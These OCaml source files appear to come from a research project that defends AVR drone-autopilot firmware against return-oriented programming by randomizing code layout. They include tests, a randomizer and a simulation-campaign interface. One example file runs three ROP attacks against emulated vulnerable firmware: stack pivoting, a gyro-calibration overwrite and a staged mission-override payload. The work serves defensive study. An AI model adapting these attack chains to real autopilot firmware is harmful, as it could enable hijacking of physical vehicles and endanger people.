  Alcotest.(check bool) "has function pointers" true (List.length img.funptr_locs > 0)

let test_image_function_containing () =
  let img = build_image () in
  let sym = List.nth img.Image.symbols 5 in
  (match Image.function_containing img sym.addr with
  | Some s -> Alcotest.(check string) "exact start" sym.name s.name
  | None -> Alcotest.fail "no function at symbol start");
  (match Image.function_containing img (sym.addr + sym.size - 1) with
  | Some s -> Alcotest.(check string) "last byte" sym.name s.name
  | None -> Alcotest.fail "no function at last byte");
  (match Image.function_containing img (img.text_start - 1) with
  | Some s -> Alcotest.failf "below text resolved to %s" s.Image.name
  | None -> ());
  match Image.function_containing img img.text_end with
  | Some s -> Alcotest.failf "text_end resolved to %s" s.Image.name
  | None -> ()

let test_image_broken_coverage_rejected () =
  let img = build_image () in
  let broken = { img with symbols = List.tl img.Image.symbols } in
  match Image.validate broken with
  | Error _ -> ()
  | Ok () -> Alcotest.fail "gap should be rejected"

let test_symtab_blob_roundtrip () =
  let img = build_image () in
  let meta = Symtab.meta_of_image img in
  let meta' = Symtab.of_blob (Symtab.to_blob meta) in
  Alcotest.(check bool) "meta roundtrip" true (Symtab.equal_meta meta meta')

let test_symtab_bad_magic () =
  match Symtab.of_blob "XXXXX garbage" with
  | _ -> Alcotest.fail "expected bad magic"
  | exception Invalid_argument _ -> ()

let test_preprocessed_hex_roundtrip () =
  (* The §VI-B2 flow: image -> prepended HEX -> (external flash) -> image. *)
  let img = build_image () in
  let hex = Symtab.to_hex img in
  let img' = Symtab.of_hex hex in
  Alcotest.(check string) "code identical" img.Image.code img'.Image.code;
  Alcotest.(check int) "same text bounds" img.text_start img'.Image.text_start;
  Alcotest.(check int) "same function count" (Image.function_count img) (Image.function_count img');
  Alcotest.(check (list int)) "same funptr locs" img.funptr_locs img'.Image.funptr_locs;
  (* Names are synthesized, but addresses and sizes must agree. *)
  List.iter2
    (fun (a : Image.symbol) (b : Image.symbol) ->
      Alcotest.(check int) "symbol addr" a.addr b.addr;
      Alcotest.(check int) "symbol size" a.size b.size)
    img.symbols img'.Image.symbols;
  Helpers.assert_ok (Image.validate img')

let test_fingerprint_changes () =
  let img = build_image () in
  let r = Mavr_core.Randomize.randomize ~seed:3 img in
  Alcotest.(check bool) "randomization changes fingerprint" true
    (Image.fingerprint img <> Image.fingerprint r)

let prop_ihex_roundtrip =
  QCheck.Test.make ~name:"ihex roundtrip on random payloads" ~count:100
    QCheck.(pair (int_bound 100_000) (string_of_size (QCheck.Gen.int_range 1 600)))
    (fun (base, data) ->
      match Ihex.decode (Ihex.encode [ (base, data) ]) with
      | [ (b, d) ] -> b = base && d = data
      | _ -> false)

let () =
  Alcotest.run "objfile"
    [
      ( "ihex",
        [
          Alcotest.test_case "simple roundtrip" `Quick test_ihex_simple_roundtrip;
          Alcotest.test_case "crosses 64K" `Quick test_ihex_crosses_64k;
          Alcotest.test_case "multi segment" `Quick test_ihex_multi_segment;
          Alcotest.test_case "bad checksum" `Quick test_ihex_bad_checksum;
          Alcotest.test_case "missing EOF" `Quick test_ihex_missing_eof;
          Alcotest.test_case "flatten" `Quick test_ihex_flatten;
        ] );
      ( "image",
        [
          Alcotest.test_case "invariants" `Quick test_image_invariants;
          Alcotest.test_case "function_containing" `Quick test_image_function_containing;
          Alcotest.test_case "coverage gaps rejected" `Quick test_image_broken_coverage_rejected;
          Alcotest.test_case "fingerprint" `Quick test_fingerprint_changes;
        ] );
      ( "symtab",
        [
          Alcotest.test_case "blob roundtrip" `Quick test_symtab_blob_roundtrip;
          Alcotest.test_case "bad magic" `Quick test_symtab_bad_magic;
          Alcotest.test_case "preprocessed hex roundtrip" `Quick test_preprocessed_hex_roundtrip;
        ] );
      ("properties", [ Helpers.qtest prop_ihex_roundtrip ]);
    ]
