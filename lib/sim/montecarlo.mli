(** Monte Carlo attack/defense campaign over closed-loop scenarios.

    The paper's effectiveness argument (§VII-A) is a grid: each of the
    three §IV ROP attacks, fired at each defense posture, across many
    randomized trials.  This module runs that grid on the campaign
    engine — one {!Scenario} flight per (defense × attack × trial) task,
    takeover/detection/time-to-detect statistics aggregated per cell —
    with output bit-identical for any job count.

    A fault-intensity axis rides on top: given a {!Mavr_fault.Profile},
    the whole grid runs once per intensity level, and each level also
    flies {e control} flights — same posture, same faults, no attack —
    so the campaign reports false-alarm rates (GCS alarms and spurious
    master recoveries on attack-free flights) next to the detection
    rates they calibrate.

    Defense postures:
    - [Undefended] — bare APM running the unprotected binary;
    - [Software_only] — §VIII-A: the binary is diversified once (a
      per-trial random layout) but no master watches;
    - [Mavr_defense] — the full master: randomize at boot, watchdog
      detection, re-randomize + reflash on failure.

    Each trial owns a private telemetry registry; they are merged
    ({!Mavr_telemetry.Metrics.merge}, commutative) into {!type-t}'s
    [metrics] at the join — no locks anywhere near the emulator. *)

type defense = Undefended | Software_only | Mavr_defense
type attack = V1 | V2 | V3

val defense_name : defense -> string
val attack_name : attack -> string

type cell = {
  defense : defense;
  attack : attack;
  trials : int;  (** trials actually run (< configured if stopped early) *)
  skipped : int;  (** trials not run because the cell stopped early *)
  takeovers : int;  (** trials where the gyro-calibration write landed *)
  detections : int;  (** trials where master or ground station flagged *)
  halts : int;  (** trials where the app CPU ended halted *)
  detect_n : int;  (** trials with a timestamped first detection *)
  detect_ms_sum : float;
  detect_ms_max : float;
}

(** Attack-free flights under the same faults: every flag raised here is
    a false alarm. *)
type control = {
  posture : defense;
  flights : int;  (** flights actually flown *)
  skipped : int;  (** flights not flown because the cell stopped early *)
  alarmed : int;  (** flights with at least one GCS alarm *)
  alarms_total : int;
  recoveries : int;  (** spurious master detections (each = a reflash) *)
  crashed : int;  (** flights whose app CPU ended halted *)
  first_alarm_n : int;
  first_alarm_ms_sum : float;
}

type level_result = {
  level : Mavr_fault.Profile.level;
  cells : cell array;  (** 9 cells, defense-major, fixed order *)
  controls : control array;  (** one per defense, same order *)
}

type t = {
  seed : int;
  trials : int;
  ms : int;  (** simulated flight length per trial *)
  profile : string;  (** fault profile name *)
  levels : level_result array;
      (** one per fault level, profile order; [levels.(0)] is the clean
          baseline (every profile's first level is "off") *)
  metrics : Mavr_telemetry.Metrics.registry;
      (** every trial's registry, merged *)
  early_stop : Mavr_campaign.Early_stop.t option;
      (** the policy the campaign ran under, if any *)
  trials_skipped : int;  (** total trials early stopping saved *)
}

(** [checkpoint_spec ... ~profile ~seed ~trials ()] — the
    {!Mavr_campaign.Checkpoint.spec} identifying one campaign
    configuration: the hash covers the firmware profile name, fault
    profile, flight length, trial budget, seed, early-stop policy and
    whether tracing is on ([traced], default false) — any difference
    makes a stale checkpoint unresumable rather than silently wrong.
    Also the single source of truth for the campaign's task count. *)
val checkpoint_spec :
  ?ms:int ->
  ?faults:Mavr_fault.Profile.t ->
  ?early_stop:Mavr_campaign.Early_stop.t ->
  ?traced:bool ->
  profile:string ->
  seed:int ->
  trials:int ->
  unit ->
  Mavr_campaign.Checkpoint.spec

(** [run ?pool ?jobs ?ms ?faults ~seed ~trials build] — per fault level,
    the [3 x 3 x trials] attack grid plus [3 x trials] control flights,
    each a scenario of [ms] simulated milliseconds (default 900; attacks
    are injected after a [ms/3] warm-up).  [faults] defaults to
    {!Mavr_fault.Profile.none} — a single clean level, the pre-fault
    campaign.  The attacker's analysis of the unprotected [build] runs
    once; trial randomness (fault seeds, layout seeds, master seeds) is
    split per task from [seed].

    Observability (defaults off; neither perturbs any trial's PRNG
    stream or result): with [?tracer], every trial gets two lanes
    sorted by task index — a host lane
    ["trial-NNNNN level/defense/attack"] holding a ["trial"] span over
    ["boot"]/["warmup"]/["flight"] phase spans plus ["inject"]/
    ["detected"] instants, and a [" sim"]-suffixed {e cycles} lane
    carrying the rig's cycle-stamped flight-recorder window (master
    flash-session phases, inject/alarm events), which is deterministic
    and survives timing-stripping.  With [?progress], the task total
    is registered up front, every trial completion ticks the stream,
    and each heartbeat line carries per-(defense × attack) running
    done/detected/takeover tallies plus control-flight counts.

    Resumable execution: with [?checkpoint] every completed trial is
    recorded as it lands (outcome, metrics registry, trace lanes when
    tracing) and the writer's recorded frontier is replayed into the
    result array before anything runs — pass a writer primed by
    {!Mavr_campaign.Checkpoint.resume} and only the uncompleted tasks
    execute, with the final document byte-identical to an
    uninterrupted run at any job count.
    @raise Mavr_campaign.Checkpoint.Corrupt if a primed entry's result
    payload does not decode (or lacks trace lanes while tracing is on).

    Adaptive stopping: with [?early_stop] each statistical cell (an
    attacked cell's detection rate, a control's false-alarm rate) runs
    in deterministic rounds and stops once its Wilson interval is
    narrow enough; trials not run are reported explicitly
    ([cell.skipped], [trials_skipped], checkpoint skip entries) and
    cells that never stop keep byte-identical output. *)
val run :
  ?pool:Mavr_campaign.Pool.t ->
  ?jobs:int ->
  ?ms:int ->
  ?faults:Mavr_fault.Profile.t ->
  ?tracer:Mavr_telemetry.Span.tracer ->
  ?progress:Mavr_campaign.Progress.t ->
  ?early_stop:Mavr_campaign.Early_stop.t ->
  ?checkpoint:Mavr_campaign.Checkpoint.t ->
  seed:int ->
  trials:int ->
  Mavr_firmware.Build.t ->
  t

(** [run_shard ~checkpoint ~lo ~hi ~seed ~trials build] — execute only
    the tasks with global indices in [\[lo, hi)], recording every
    completed trial (and every early-stop skip) in [checkpoint]; nothing
    else is returned.  The campaign's index space is a concatenation of
    [trials]-sized per-cell blocks in a fixed cell order, so [lo] and
    [hi] must be multiples of [trials] (cell-aligned) — then each cell's
    early-stop trajectory, and therefore every recorded entry, is
    byte-identical to what a single-host {!run} records for those
    indices.  A dispatcher reassembles the full campaign by priming a
    checkpoint with every shard's entries and calling {!run} over it
    (which executes zero trials).
    @raise Invalid_argument on bounds that are out of range or not
    cell-aligned. *)
val run_shard :
  ?pool:Mavr_campaign.Pool.t ->
  ?jobs:int ->
  ?ms:int ->
  ?faults:Mavr_fault.Profile.t ->
  ?tracer:Mavr_telemetry.Span.tracer ->
  ?progress:Mavr_campaign.Progress.t ->
  ?early_stop:Mavr_campaign.Early_stop.t ->
  checkpoint:Mavr_campaign.Checkpoint.t ->
  lo:int ->
  hi:int ->
  seed:int ->
  trials:int ->
  Mavr_firmware.Build.t ->
  unit

(** The clean baseline grid: [t.levels.(0).cells]. *)
val cells : t -> cell array

(** Marginals across one defense's row of cells — per level, and summed
    over every fault level (the CLI's exit-code criterion: zero MAVR
    takeovers at {e every} intensity). *)
val level_takeovers : level_result -> defense -> int

val level_detections : level_result -> defense -> int
val takeovers : t -> defense -> int
val detections : t -> defense -> int
val mean_detect_ms : cell -> float

(** [alarmed / flights] on a control row. *)
val false_alarm_rate : control -> float

(** Deterministic JSON (levels and cells in fixed order, metrics sorted
    by name).  The top-level [grid] key carries the clean baseline cells
    for downstream tooling; the [levels] list holds every intensity's
    grid and control rows.  [with_metrics:false] drops the merged
    registry. *)
val to_json : ?with_metrics:bool -> t -> Mavr_telemetry.Json.t

val pp : Format.formatter -> t -> unit
