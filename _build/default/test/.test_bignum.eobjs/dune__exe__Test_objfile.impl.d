test/test_objfile.ml: Alcotest Bytes Char Helpers List Mavr_core Mavr_obj QCheck String
