module Isa = Mavr_avr.Isa
module Opcode = Mavr_avr.Opcode
module Decode = Mavr_avr.Decode

let check_words msg expected insn = Alcotest.(check (list int)) msg expected (Opcode.encode insn)

(* Golden encodings cross-checked against avr-gcc objdump output. *)
let test_golden_encodings () =
  check_words "nop" [ 0x0000 ] Isa.Nop;
  check_words "ret" [ 0x9508 ] Isa.Ret;
  check_words "reti" [ 0x9518 ] Isa.Reti;
  check_words "icall" [ 0x9509 ] Isa.Icall;
  check_words "ijmp" [ 0x9409 ] Isa.Ijmp;
  (* the classic frame-pointer spills seen in every AVR prologue *)
  check_words "out 0x3e,r29" [ 0xBFDE ] (Isa.Out (0x3E, 29));
  check_words "out 0x3d,r28" [ 0xBFCD ] (Isa.Out (0x3D, 28));
  check_words "in r28,0x3d" [ 0xB7CD ] (Isa.In (28, 0x3D));
  check_words "push r28" [ 0x93CF ] (Isa.Push 28);
  check_words "pop r29" [ 0x91DF ] (Isa.Pop 29);
  check_words "ldi r16,0xAA" [ 0xEA0A ] (Isa.Ldi (16, 0xAA));
  check_words "mov r1,r2" [ 0x2C12 ] (Isa.Mov (1, 2));
  check_words "add r24,r25" [ 0x0F89 ] (Isa.Add (24, 25));
  check_words "eor r1,r1" [ 0x2411 ] (Isa.Eor (1, 1));
  check_words "rjmp .-2" [ 0xCFFF ] (Isa.Rjmp (-1));
  check_words "rjmp .+0" [ 0xC000 ] (Isa.Rjmp 0);
  check_words "breq .+2" [ 0xF009 ] (Isa.Brbs (1, 1));
  check_words "brne .-10" [ 0xF7D9 ] (Isa.Brbc (1, -5));
  check_words "movw r30,r28" [ 0x01FE ] (Isa.Movw (30, 28));
  check_words "adiw r28,1" [ 0x9621 ] (Isa.Adiw (28, 1));
  check_words "sbiw r26,32" [ 0x9790 ] (Isa.Sbiw (26, 32));
  check_words "std Y+1,r5" [ 0x8259 ] (Isa.Std (Isa.Y, 1, 5));
  check_words "ldd r24,Z+3" [ 0x8183 ] (Isa.Ldd (24, Isa.Z, 3));
  check_words "lds r24,0x0123" [ 0x9180; 0x0123 ] (Isa.Lds (24, 0x123));
  check_words "sts 0x0456,r17" [ 0x9310; 0x0456 ] (Isa.Sts (0x456, 17));
  check_words "jmp 0x1b284" [ 0x940C; 0xD942 ] (Isa.Jmp (0x1B284 / 2));
  check_words "call 0x5de" [ 0x940E; 0x02EF ] (Isa.Call (0x5DE / 2));
  check_words "lpm r24,Z" [ 0x9184 ] (Isa.Lpm (24, false));
  check_words "lpm r0,Z+ variant" [ 0x9005 ] (Isa.Lpm (0, true));
  check_words "sei" [ 0x9478 ] (Isa.Bset 7);
  check_words "cli" [ 0x94F8 ] (Isa.Bclr 7);
  check_words "wdr" [ 0x95A8 ] Isa.Wdr

let test_operand_validation () =
  let rejects name insn =
    match Opcode.validate insn with
    | Error _ -> ()
    | Ok () -> Alcotest.failf "%s should be rejected" name
  in
  rejects "ldi r5" (Isa.Ldi (5, 1));
  rejects "ldi k=256" (Isa.Ldi (16, 256));
  rejects "movw odd" (Isa.Movw (1, 2));
  rejects "out addr 64" (Isa.Out (64, 0));
  rejects "sbi addr 32" (Isa.Sbi (32, 0));
  rejects "adiw r25" (Isa.Adiw (25, 1));
  rejects "adiw k=64" (Isa.Adiw (24, 64));
  rejects "rjmp 2048" (Isa.Rjmp 2048);
  rejects "rjmp -2049" (Isa.Rjmp (-2049));
  rejects "brbs 64" (Isa.Brbs (1, 64));
  rejects "std q=64" (Isa.Std (Isa.Y, 64, 0));
  rejects "call out of range" (Isa.Call (1 lsl 22));
  rejects "bad register" (Isa.Push 32)

let test_decode_garbage_total () =
  (* Any 16-bit word decodes to something (possibly Data); never raises. *)
  for w = 0 to 0xFFFF do
    ignore (Decode.decode w 0x0000)
  done

let test_decode_known_data () =
  (* Erased flash must decode as Data (and halt the CPU). *)
  (match Decode.decode 0xFFFF 0xFFFF with
  | Isa.Data 0xFFFF, 1 -> ()
  | i, _ -> Alcotest.failf "0xFFFF decoded as %s" (Isa.to_string i));
  match Decode.decode 0x0300 0x0000 with
  | Isa.Data _, 1 -> ()
  | i, _ -> Alcotest.failf "MULS-space word decoded as %s" (Isa.to_string i)

(* Random valid instruction generator for the round-trip property. *)
let gen_insn =
  let open QCheck.Gen in
  let reg = int_range 0 31 in
  let hreg = int_range 16 31 in
  let imm8 = int_range 0 255 in
  let io6 = int_range 0 63 in
  let io5 = int_range 0 31 in
  let bit = int_range 0 7 in
  let wreg = map (fun i -> 24 + (2 * i)) (int_range 0 3) in
  let ereg = map (fun i -> 2 * i) (int_range 0 15) in
  let ptr = oneofl Isa.[ X; X_inc; X_dec; Y_inc; Y_dec; Z_inc; Z_dec ] in
  let base = oneofl Isa.[ Y; Z ] in
  oneof
    [
      return Isa.Nop;
      map2 (fun d r -> Isa.Movw (d, r)) ereg ereg;
      map2 (fun d k -> Isa.Ldi (d, k)) hreg imm8;
      map2 (fun d r -> Isa.Mov (d, r)) reg reg;
      map2 (fun d r -> Isa.Add (d, r)) reg reg;
      map2 (fun d r -> Isa.Adc (d, r)) reg reg;
      map2 (fun d r -> Isa.Sub (d, r)) reg reg;
      map2 (fun d r -> Isa.Sbc (d, r)) reg reg;
      map2 (fun d r -> Isa.And (d, r)) reg reg;
      map2 (fun d r -> Isa.Or (d, r)) reg reg;
      map2 (fun d r -> Isa.Eor (d, r)) reg reg;
      map2 (fun d r -> Isa.Cp (d, r)) reg reg;
      map2 (fun d r -> Isa.Cpc (d, r)) reg reg;
      map2 (fun d r -> Isa.Cpse (d, r)) reg reg;
      map2 (fun d r -> Isa.Mul (d, r)) reg reg;
      map2 (fun d k -> Isa.Subi (d, k)) hreg imm8;
      map2 (fun d k -> Isa.Sbci (d, k)) hreg imm8;
      map2 (fun d k -> Isa.Andi (d, k)) hreg imm8;
      map2 (fun d k -> Isa.Ori (d, k)) hreg imm8;
      map2 (fun d k -> Isa.Cpi (d, k)) hreg imm8;
      map (fun d -> Isa.Com d) reg;
      map (fun d -> Isa.Neg d) reg;
      map (fun d -> Isa.Inc d) reg;
      map (fun d -> Isa.Dec d) reg;
      map (fun d -> Isa.Lsr d) reg;
      map (fun d -> Isa.Ror d) reg;
      map (fun d -> Isa.Asr d) reg;
      map (fun d -> Isa.Swap d) reg;
      map (fun r -> Isa.Push r) reg;
      map (fun r -> Isa.Pop r) reg;
      return Isa.Ret;
      return Isa.Reti;
      return Isa.Icall;
      return Isa.Ijmp;
      map (fun a -> Isa.Call a) (int_range 0 0x3FFFFF);
      map (fun a -> Isa.Jmp a) (int_range 0 0x3FFFFF);
      map (fun k -> Isa.Rcall k) (int_range (-2048) 2047);
      map (fun k -> Isa.Rjmp k) (int_range (-2048) 2047);
      map2 (fun b k -> Isa.Brbs (b, k)) bit (int_range (-64) 63);
      map2 (fun b k -> Isa.Brbc (b, k)) bit (int_range (-64) 63);
      map2 (fun d a -> Isa.In (d, a)) reg io6;
      map2 (fun a r -> Isa.Out (a, r)) io6 reg;
      map2 (fun d a -> Isa.Lds (d, a)) reg (int_range 0 0xFFFF);
      map2 (fun a r -> Isa.Sts (a, r)) (int_range 0 0xFFFF) reg;
      map3 (fun d b q -> Isa.Ldd (d, b, q)) reg base (int_range 0 63);
      map3 (fun b q r -> Isa.Std (b, q, r)) base (int_range 0 63) reg;
      map2 (fun d p -> Isa.Ld (d, p)) reg ptr;
      map2 (fun p r -> Isa.St (p, r)) ptr reg;
      map2 (fun d k -> Isa.Adiw (d, k)) wreg (int_range 0 63);
      map2 (fun d k -> Isa.Sbiw (d, k)) wreg (int_range 0 63);
      return Isa.Lpm0;
      map2 (fun d inc -> Isa.Lpm (d, inc)) reg bool;
      return Isa.Elpm0;
      map2 (fun d inc -> Isa.Elpm (d, inc)) reg bool;
      map2 (fun d b -> Isa.Bld (d, b)) reg bit;
      map2 (fun d b -> Isa.Bst (d, b)) reg bit;
      map2 (fun r b -> Isa.Sbrc (r, b)) reg bit;
      map2 (fun r b -> Isa.Sbrs (r, b)) reg bit;
      map2 (fun a b -> Isa.Sbi (a, b)) io5 bit;
      map2 (fun a b -> Isa.Cbi (a, b)) io5 bit;
      map2 (fun a b -> Isa.Sbic (a, b)) io5 bit;
      map2 (fun a b -> Isa.Sbis (a, b)) io5 bit;
      map (fun b -> Isa.Bset b) bit;
      map (fun b -> Isa.Bclr b) bit;
      return Isa.Wdr;
      return Isa.Sleep;
      return Isa.Break;
    ]

let arb_insn = QCheck.make ~print:Isa.to_string gen_insn

let prop_roundtrip =
  QCheck.Test.make ~name:"encode/decode roundtrip" ~count:3000 arb_insn (fun insn ->
      let words = Opcode.encode insn in
      let w1 = List.nth words 0 in
      let w2 = match words with [ _; w ] -> w | _ -> 0 in
      let decoded, size = Decode.decode w1 w2 in
      Isa.equal decoded insn && size = List.length words)

let prop_size_matches =
  QCheck.Test.make ~name:"size_words matches encoding" ~count:1000 arb_insn (fun insn ->
      List.length (Opcode.encode insn) = Isa.size_words insn)

let prop_bytes_le =
  QCheck.Test.make ~name:"encode_bytes is little-endian words" ~count:500 arb_insn (fun insn ->
      let words = Opcode.encode insn in
      let bytes = Opcode.encode_bytes insn in
      String.length bytes = 2 * List.length words
      && List.for_all2
           (fun w i ->
             Char.code bytes.[2 * i] = w land 0xFF
             && Char.code bytes.[(2 * i) + 1] = (w lsr 8) land 0xFF)
           words
           (List.init (List.length words) (fun i -> i)))

let () =
  Alcotest.run "isa"
    [
      ( "encodings",
        [
          Alcotest.test_case "golden encodings" `Quick test_golden_encodings;
          Alcotest.test_case "operand validation" `Quick test_operand_validation;
          Alcotest.test_case "decode is total" `Quick test_decode_garbage_total;
          Alcotest.test_case "garbage decodes as Data" `Quick test_decode_known_data;
        ] );
      ( "properties",
        List.map Helpers.qtest [ prop_roundtrip; prop_size_matches; prop_bytes_le ] );
    ]
