lib/mavr/gadget.ml: Array Format List Mavr_avr Mavr_obj
