module Image = Mavr_obj.Image
module Rng = Mavr_prng.Splitmix

let randomize_rng ~rng img = Patch.apply img (Shuffle.draw ~rng img)

let randomize ~seed img = randomize_rng ~rng:(Rng.create ~seed) img

let with_order img order = Patch.apply img (Shuffle.of_order img order)

let verify_structure ~original ~randomized =
  let open Image in
  if size original <> size randomized then Error "image size changed"
  else if
    original.text_start <> randomized.text_start || original.text_end <> randomized.text_end
  then Error "text bounds changed"
  else
    let key (s : symbol) = (s.name, s.size) in
    let sorted img = List.sort compare (List.map key img.symbols) in
    if sorted original <> sorted randomized then Error "symbol multiset changed"
    else
      match validate randomized with
      | Error m -> Error ("randomized image invalid: " ^ m)
      | Ok () -> Ok ()

(* Full translation validation lives in the analysis library
   (Mavr_analysis.Equiv), which depends on this one — so the validator
   is injected at program start instead of called directly. *)
let translation_validator :
    (original:Image.t -> randomized:Image.t -> (unit, string) result) ref =
  ref (fun ~original:_ ~randomized:_ -> Ok ())

let set_translation_validator f = translation_validator := f

let randomize_checked ~seed img =
  match randomize ~seed img with
  | exception Patch.Unpatchable m -> Error ("unpatchable image: " ^ m)
  | r -> (
      match verify_structure ~original:img ~randomized:r with
      | Error m -> Error m
      | Ok () -> (
          match !translation_validator ~original:img ~randomized:r with
          | Ok () -> Ok r
          | Error m -> Error ("translation validation failed: " ^ m)))

let layout_distance a b =
  let addr_of img =
    List.fold_left
      (fun acc (s : Image.symbol) -> (s.name, s.addr) :: acc)
      [] img.Image.symbols
  in
  let bmap = addr_of b in
  List.fold_left
    (fun n (name, addr) -> match List.assoc_opt name bmap with
      | Some addr' when addr' = addr -> n
      | _ -> n + 1)
    0 (addr_of a)
