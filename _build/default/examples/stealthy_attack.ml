(* The paper's §IV attacks, end to end, with the Fig. 6 stack-progression
   dumps.  Runs all three variants against the vulnerable firmware:

     V1  basic ROP        — changes the gyro calibration, then crashes;
     V2  stealthy ROP     — same effect, stack repaired, clean return;
     V3  trampoline ROP   — stages an arbitrarily large payload in free
                            SRAM via clean-return volleys, then executes
                            it and returns cleanly again.

     dune exec examples/stealthy_attack.exe
*)

module Cpu = Mavr_avr.Cpu
module Io = Mavr_avr.Device.Io
module Image = Mavr_obj.Image
module Rop = Mavr_core.Rop
module Gadget = Mavr_core.Gadget
module Trace = Mavr_avr.Trace
module Layout = Mavr_firmware.Layout

let boot image =
  let cpu = Cpu.create () in
  Cpu.load_program cpu image.Image.code;
  Cpu.io_poke cpu Io.gyro_lo 0x34;
  Cpu.io_poke cpu Io.gyro_hi 0x12;
  ignore (Cpu.run cpu ~max_cycles:60_000);
  cpu

let gyro_cfg cpu =
  Cpu.data_peek cpu Layout.gyro_cfg lor (Cpu.data_peek cpu (Layout.gyro_cfg + 1) lsl 8)

let outcome = function
  | `Halted h -> Format.asprintf "CRASHED (%a)" Cpu.pp_halt h
  | `Budget_exhausted -> "still flying"

let snapshot cpu label ~pos =
  Format.printf "%a@." Trace.pp_snapshot
    (Trace.snapshot cpu ~label ~window_start:pos ~window_len:16)

let () =
  print_endline "== Stealthy code-reuse attacks on the autopilot (paper §IV) ==\n";
  let build =
    Mavr_firmware.Build.build (Mavr_firmware.Profile.tiny ~n:100 ~seed:2024)
      Mavr_firmware.Profile.mavr
  in

  (* -- attacker reconnaissance: gadgets + dry run (threat model §IV-A) -- *)
  let ti = Rop.analyze build in
  let obs = Rop.observe ti in
  Format.printf "recon: stk_move gadget at 0x%05x, write_mem gadget at 0x%05x@."
    ti.gadgets.stk_move ti.gadgets.write_mem;
  Format.printf "recon: vulnerable frame at SP=0x%04x, saved bytes %s@.@." obs.s0
    (String.concat " "
       (List.init 6 (fun i -> Printf.sprintf "%02x" (Char.code obs.saved_bytes.[i]))));

  print_endline "-- gadget disassembly (cf. Fig. 4 / Fig. 5) --";
  print_string
    (Mavr_avr.Disasm.listing ~pos:ti.gadgets.stk_move ~len:14 build.image.Image.code);
  print_newline ();
  print_string
    (Mavr_avr.Disasm.listing ~pos:ti.gadgets.write_mem ~len:44 build.image.Image.code);
  print_newline ();

  let cfg_write v = Rop.write_u16 obs ~addr:Layout.gyro_cfg ~value:v ~neighbour:0 in

  (* ---------------- V1 ---------------- *)
  print_endline "---- ROP attack V1: basic (destroys the stack) ----";
  let cpu = boot build.image in
  List.iter (Cpu.uart_send cpu) (Rop.v1_basic ti obs ~writes:[ cfg_write 0xBEEF ]);
  let r = Cpu.run cpu ~max_cycles:2_000_000 in
  Format.printf "gyro calibration now 0x%04x (attacker wanted 0xBEEF); board is %s@.@."
    (gyro_cfg cpu) (outcome r);

  (* ---------------- V2 ---------------- *)
  print_endline "---- ROP attack V2: stealthy, with stack repair (Fig. 6) ----";
  let cpu = boot build.image in
  snapshot cpu "(i) clean stack before payload" ~pos:(obs.s0 - 12);
  List.iter (Cpu.uart_send cpu) (Rop.v2_stealthy ti obs ~writes:[ cfg_write 0xBEEF ]);
  (match
     Cpu.run_until cpu ~max_cycles:3_000_000 (fun c ->
         Cpu.pc_byte_addr c = ti.gadgets.Gadget.stk_move
         && Cpu.data_peek c (obs.s0 - 5) <> Char.code obs.saved_bytes.[0])
   with
  | `Pred -> snapshot cpu "(ii) dirty stack after payload injection" ~pos:(obs.s0 - 12)
  | _ -> print_endline "!! never reached the smashed teardown");
  (match
     Cpu.run_until cpu ~max_cycles:1_000 (fun c -> Cpu.sp c >= ti.stage_addr && Cpu.sp c < ti.stage_addr + 256)
   with
  | `Pred ->
      snapshot cpu "(iii) pivoted: SP now inside the staging buffer" ~pos:(Cpu.sp cpu - 4)
  | _ -> print_endline "!! pivot not observed");
  (match Cpu.run_until cpu ~max_cycles:3_000_000 (fun c -> gyro_cfg c = 0xBEEF) with
  | `Pred -> Format.printf "(iv) payload executed: gyro calibration = 0x%04x@." (gyro_cfg cpu)
  | _ -> print_endline "!! write never landed");
  let byte i = Char.code obs.saved_bytes.[i] in
  let ret_target = ((byte 3 lsl 16) lor (byte 4 lsl 8) lor byte 5) * 2 in
  (match Cpu.run_until cpu ~max_cycles:3_000_000 (fun c -> Cpu.pc_byte_addr c = ret_target) with
  | `Pred -> snapshot cpu "(v) repaired stack at the clean return" ~pos:(obs.s0 - 12)
  | _ -> print_endline "!! clean return not observed");
  let r = Cpu.run cpu ~max_cycles:2_000_000 in
  Format.printf "board is %s; watchdog feeds continue: %b@.@." (outcome r)
    (Cpu.watchdog_feeds cpu > 1000);

  (* ---------------- V3 ---------------- *)
  print_endline "---- ROP attack V3: trampoline (arbitrarily large payload) ----";
  let cpu = boot build.image in
  let mission = "MISSION-OVERRIDE LAT=47.6205 LON=-122.3493 ALT=15 SPEED=MAX LAND=HOSTILE" in
  let dest = Layout.free_region + 0x400 in
  let writes =
    let n = String.length mission in
    let b i = if i < n then Char.code mission.[i] else 0 in
    List.init ((n + 2) / 3) (fun k ->
        { Rop.base = dest + (3 * k) - 1; bytes = (b (3 * k), b ((3 * k) + 1), b ((3 * k) + 2)) })
  in
  let frames = Rop.v3_execute ti obs ~chain_dest:Layout.free_region ~writes in
  Format.printf "staging a %d-byte chain (%d writes) via %d MAVLink frames...@."
    (String.length (Rop.big_chain_bytes ti obs ~writes))
    (List.length writes) (List.length frames);
  List.iter
    (fun f ->
      Cpu.uart_send cpu f;
      ignore (Cpu.run cpu ~max_cycles:300_000))
    frames;
  let r = Cpu.run cpu ~max_cycles:1_000_000 in
  let injected = Cpu.stack_slice cpu ~pos:dest ~len:(String.length mission) in
  Format.printf "payload now in SRAM at 0x%04x: %S@." dest injected;
  Format.printf "board is %s — the ground station never noticed a thing.@.@." (outcome r);

  (* ---------------- vs MAVR ---------------- *)
  print_endline "---- the same V2 attack against a MAVR-randomized binary ----";
  let randomized = Mavr_core.Randomize.randomize ~seed:7 build.image in
  let cpu = boot randomized in
  List.iter (Cpu.uart_send cpu) (Rop.v2_stealthy ti obs ~writes:[ cfg_write 0xBEEF ]);
  let r = Cpu.run cpu ~max_cycles:3_000_000 in
  Format.printf "gyro calibration: 0x%04x (unchanged = attack defeated); board is %s@."
    (gyro_cfg cpu) (outcome r)
