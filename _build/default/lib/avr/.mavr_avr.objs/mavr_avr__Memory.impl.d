lib/avr/memory.ml: Bytes Char Device String
