lib/avr/decode.mli: Isa
