(** Gadget-survival census and static payload feasibility (§VII).

    The paper's mitigation argument is statistical: after software
    diversification, the gadget {e addresses} an attacker harvested from
    the unprotected image no longer decode to the same instruction
    sequences, so a prebuilt ROP payload fails.  This module measures
    that claim without executing anything:

    - {!gadget_survives}: does a single harvested gadget still decode to
      the same sequence at the same address in a candidate layout?
    - {!census}: across [layouts] randomized layouts, what fraction of
      the base image's gadgets survive, and in how many layouts does the
      full §IV payload stay feasible?
    - {!payload_feasible}: the static analogue of running the attack in
      the emulator — all three paper-gadget addresses must decode to the
      reference sequences. *)

(** [gadget_survives ~candidate g] — the decode chain at [g.byte_addr]
